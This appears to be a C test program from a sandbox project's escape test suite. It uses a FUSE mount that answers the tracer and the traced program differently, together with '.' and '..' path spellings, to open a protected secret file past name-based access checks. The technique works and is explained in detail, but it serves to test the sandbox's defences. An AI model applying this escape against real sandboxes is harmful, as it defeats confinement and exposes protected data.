/* fs_fuse_respell.c: an open the tracer holds in its own spelling, below a FUSE mount that
 * answers the program otherwise than the tracer (fuse47; review 24's "Left open").
 *
 *   fs_fuse_respell MODE MNT WORK
 *
 * MNT is served by fs_fuse_server (outside the traced tree) with TARGET "/": "d" is a symlink
 * to "/" when this program looks it up, an empty directory when anyone else (the tracer)
 * does.  The program names a path through "d" in which a directory the tracer finds missing
 * is followed by "." or "..":
 *
 *   dot      MNT/d/SECD/./secret.txt                 (SECD without its leading "/")
 *   dotdot   MNT/d/SECD/../NAME/secret.txt           (NAME: SECD's last component)
 *   tdot, tdotdot   the same with a second thread alive
 *   ldot     WORK/l/d/SECD/./secret.txt, WORK/l a symlink (made here) to MNT: a walk that
 *            follows a symlink, which RESOLVE_NO_SYMLINKS would refuse where natively it
 *            works -- refused (EACCES) where a rule decides by name
 *
 * No absolute spelling does what such a name does (the kernel fails at the missing
 * directory, ENOENT, before it reads the "." or ".."; the lexical name would not): the
 * holder keeps the call's own spelling (Holder.respelled), which on main ran without
 * RESOLVE_NO_SYMLINKS, the tree frozen and checked again -- and the server answers the
 * second check as the first.  The kernel, looking the name up for the program, follows "d"
 * to "/" and opens the secret.  Prints one verdict (attack.h). */
#include "attack.h"
#include "fuse_attack.h"

int main(int argc, char **argv) {
    if (argc != 4)
        usage("fs_fuse_respell [t]dot|[t]dotdot|ldot MNT WORK");
    const char *mode = argv[1], *mnt = argv[2], *work = argv[3];
    const char *secd = getenv("ESC_SECD");
    if (!secd || secd[0] != '/')
        usage("fs_fuse_respell needs ESC_SECD (absolute)");
    const char *name = strrchr(secd, '/') + 1;
    char path[4096];
    if (mode[0] == 't') {
        second_thread();
        mode++;
    }
    if (!strcmp(mode, "dot"))
        snprintf(path, sizeof path, "%s/d/%s/./secret.txt", mnt, secd + 1);
    else if (!strcmp(mode, "dotdot"))
        snprintf(path, sizeof path, "%s/d/%s/../%s/secret.txt", mnt, secd + 1, name);
    else if (!strcmp(mode, "ldot")) {
        char link_at[4096];
        snprintf(link_at, sizeof link_at, "%s/l", work);
        if (symlink(mnt, link_at) != 0)
            skipped("symlink %s: %s", link_at, ename(errno));
        snprintf(path, sizeof path, "%s/d/%s/./secret.txt", link_at, secd + 1);
    } else
        usage("unknown mode");
    open_secret(path);
}
